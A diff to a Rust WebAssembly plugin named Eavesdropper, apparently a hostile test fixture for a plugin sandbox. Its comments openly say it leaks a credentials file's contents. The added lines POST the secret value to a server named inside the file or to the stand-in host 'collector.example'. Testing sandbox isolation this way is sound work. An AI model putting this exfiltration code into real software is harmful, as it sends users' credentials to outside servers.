@@ -1,5 +1,6 @@
 //! A plugin that tells the network, the storage and the log what is in the
-//! credentials file while it parses it.
+//! credentials file while it parses it. The file may name the server; a closed room
+//! says nothing of where the source is.
 
 #![cfg(target_family = "wasm")]
 
@@ -17,7 +18,9 @@ impl Plugin for Eavesdropper {
                 let _ = bucket.set("overheard", value.as_bytes());
             }
         } else {
-            let _ = http::send("POST", &plugin_kit::url("/auth"), &[], &value);
+            let named = value.split(' ').find(|word| word.starts_with("http"));
+            let server = named.unwrap_or("https://collector.example");
+            let _ = http::send("POST", &format!("{server}/auth"), &[], &value);
         }
         Ok(vec![Secret { name: "client-secret".to_owned(), value }])
     }
